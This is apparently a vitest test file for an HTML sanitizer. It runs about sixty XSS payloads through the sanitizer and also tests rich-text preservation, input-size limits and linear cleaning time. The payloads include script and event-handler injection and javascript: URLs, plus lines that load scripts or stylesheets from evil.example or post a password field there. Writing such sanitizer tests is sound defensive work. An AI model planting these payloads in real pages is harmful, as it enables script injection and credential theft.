import { expect, test } from "vitest";
import { growth, linear, processorTime } from "../../../test/growth.ts";
import { htmlLimits, whyTooMuchHtml } from "../../model/base/html-limits.ts";
import { cleanHtml, type HtmlKind } from "./clean-html.ts";

const kinds: readonly HtmlKind[] = ["text", "widget"];

const attacks = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" OnErRoR = "alert(1)">',
  "<img/src=x/onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><animate xlink:href="#x" attributeName="href" values="javascript:alert(1)"/><a id="x"><text>x</text></a></svg>',
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://a/b">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.example/pixel">',
  '<img srcset="javascript:alert(1) 1x" src="/a.png">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="color:red;position:fixed;inset:0;z-index:9999">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="background-color:url(https://evil.example)">x</p>',
  '<p style="color:var(--x);behavior:url(x)">x</p>',
  '<details open ontoggle="alert(1)">x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster="javascript:alert(1)"></video>',
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  '<p id="cookie" name="body">clobber</p>',
  '<a id="form" name="submit" href="/x">x</a>',
  '<isindex action="javascript:alert(1)">',
  '<body onload="alert(1)">',
  '<custom-element onclick="alert(1)">x</custom-element>',
  '<p is="x-y" slot="a" part="b" data-block-id="hero1">x</p>',
];

const tags = new Set("p br hr h1 h2 ul ol li b i a img span div details video source code pre blockquote".split(" "));
const attributes = new Set("href src alt style title open poster".split(" "));
const tag = /<\/?([a-z0-9]+)((?: [a-z-]+(?:="[^"<>]*")?)*)(?: \/)?>/g;

/** Reads the result by the strictest grammar there is: every `<` begins a known tag with known attributes and safe addresses. */
function complaints(html: string): string[] {
  const found: string[] = html.replace(tag, "").match(/[<>].{0,20}/g) ?? [];
  for (const [, name = "", rest = ""] of html.matchAll(tag)) {
    if (!tags.has(name)) found.push(name);
    for (const [, attribute = "", value = ""] of rest.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
      if (!attributes.has(attribute) || !isHarmless(attribute, value)) found.push(`${attribute}=${value}`);
    }
  }
  return found;
}

function isHarmless(attribute: string, value: string): boolean {
  if (attribute === "style")
    return /^(?:(?:color|background-color|text-align):[#a-z0-9(), ]+;?)*$/.test(value) && !/url|expression/.test(value);
  if (!["href", "src", "poster"].includes(attribute)) return true;
  if (/&(?!amp;|quot;|lt;|gt;)/.test(value)) return false;
  const url = new URL(value.replace(/&amp;/g, "&").replace(/&quot;/g, '"'), "https://own.example/page");
  return url.host === "own.example" && url.protocol === "https:";
}

test.each(attacks.flatMap((attack) => kinds.map((kind) => [kind, attack] as const)))("as %s it does no harm: %j", (kind, attack) => {
  const clean = cleanHtml(attack, kind);
  expect(complaints(clean)).toEqual([]);
  expect(cleanHtml(clean, kind)).toBe(clean);
});

test("the attacks would be noticed", () => {
  const harmless = attacks.filter((attack) => complaints(attack).length === 0);
  expect(harmless).toEqual([]);
});

test.each([
  "<h2>Title</h2><p>One <b>two</b> <em>three</em> <u>four</u> <s>five</s></p>",
  "<ul><li>a</li></ul><ol><li>b</li></ol><blockquote>q</blockquote><pre><code>x &lt; y</code></pre>",
  '<a href="https://example.test/?a=1&amp;b=2">x</a><a href="/prices">y</a><a href="#top">z</a>',
  '<a href="mailto:a@example.test">m</a><a href="tel:+4912345">t</a>',
  '<p style="text-align:center;color:#c04">x</p>',
  '<span style="background-color:rgb(1, 2, 3)">x</span>',
  '<h1 dir="rtl" lang="he">x</h1>',
])("rich text stays as it was written: %s", (html) => {
  expect(cleanHtml(html)).toBe(html);
});

test("images keep what they show", () => {
  expect(cleanHtml('<img src="/files/a.webp" alt="" width="640">')).toBe('<img src="/files/a.webp" alt="" width="640" />');
  expect(cleanHtml('<img src="https://example.test/a.png" alt="A">')).toContain('src="https://example.test/a.png"');
});

test("a link to a new window cannot reach back, others have no target", () => {
  expect(cleanHtml('<a href="/x" target="_blank" rel="opener nofollow">x</a>')).toBe(
    '<a href="/x" target="_blank" rel="noopener nofollow">x</a>',
  );
  expect(cleanHtml('<a href="/x" target="_top" rel="opener">x</a>')).toBe('<a href="/x">x</a>');
});

test("the words around what goes stay", () => {
  expect(cleanHtml("<p>Hello <blink>there</blink> <script>alert(1)</script>you</p>")).toBe("<p>Hello there you</p>");
  expect(cleanHtml("<form><p>Name</p></form>")).toBe("<p>Name</p>");
});

test("a widget may have tables and layout, rich text may not", () => {
  const table = '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>';
  expect(cleanHtml(table, "widget")).toBe(table);
  expect(cleanHtml(table, "text")).toBe("x");
  expect(cleanHtml('<div class="lead" style="padding:4px 8px;width:50%">x</div>', "widget")).toBe(
    '<div class="lead" style="padding:4px 8px;width:50%">x</div>',
  );
});

test("text that only looks like HTML stays text", () => {
  expect(cleanHtml("1 < 2 &amp; 3 > 2")).toBe("1 &lt; 2 &amp; 3 &gt; 2");
  expect(cleanHtml("&lt;script&gt;alert(1)&lt;/script&gt;")).toBe("&lt;script&gt;alert(1)&lt;/script&gt;");
});

test.each([
  ["open elements", "<b><i>".repeat(80_000)],
  ["open elements that are short enough", "<b><i>".repeat(8_000)],
  ["ends that close nothing beside them", "<b></i>".repeat(8_000)],
  ["tables in one another", "<table><tr><td>".repeat(5_000)],
  ["deep nesting", "<div>".repeat(20_000)],
  ["tags", "<p>x</p>".repeat(10_001)],
  ["characters", "x".repeat(htmlLimits.length + 1)],
])("too many %s are refused before any work, whoever calls", (_, html) => {
  for (const kind of kinds) {
    const start = processorTime();
    expect(() => cleanHtml(html, kind)).toThrow(/The HTML cannot be cleaned: too (long|many)/);
    expect(processorTime() - start).toBeLessThan(200);
  }
});

test("a long text of a person is not too much", () => {
  const paragraphs = '<p>One <b>two</b> <a href="/x">three</a></p>'.repeat(2_000);
  expect(cleanHtml(paragraphs)).toBe(paragraphs);
});

test.each([
  ["paragraphs", "<p>x</p>", ""],
  ["links", '<a href="/x">y</a>', ""],
  ["open brackets", "<", ""],
  ["attributes", "a=b ", "<p "],
  ["styles", "color:red;", '<p style="'],
  ["values of a style", "1px ", '<p style="margin:'],
  ["entities", "&amp;", ""],
  ["comments", "<!--", ""],
  ["ends", "</b>", ""],
  ["rows of a table", "<tr><td>x</td></tr>", "<table>"],
  ["scripts", "<script></script>", ""],
])("twice as many %s take about twice as long to clean", (_, piece, before) => {
  const htmlOf = (size: number) => before + piece.repeat(size / piece.length);
  expect(whyTooMuchHtml(htmlOf(80_000))).toBeUndefined();
  for (const kind of kinds) expect(growth(htmlOf, (html) => cleanHtml(html, kind), 80_000)).toBeLessThan(linear);
});

test.each([
  ["open elements, at the limit of them", `${"<b>".repeat(htmlLimits.open - 1)}`, "<i>x</i>"],
  ["tags that may be left out, at the limit of them", `${"<blink>".repeat(htmlLimits.open - 1)}`, "<i>x</i>"],
])("twice as much below %s takes about twice as long", (_, before, piece) => {
  expect(
    growth(
      (size) => before + piece.repeat(size),
      (html) => cleanHtml(html),
      9_000,
    ),
  ).toBeLessThan(linear);
});
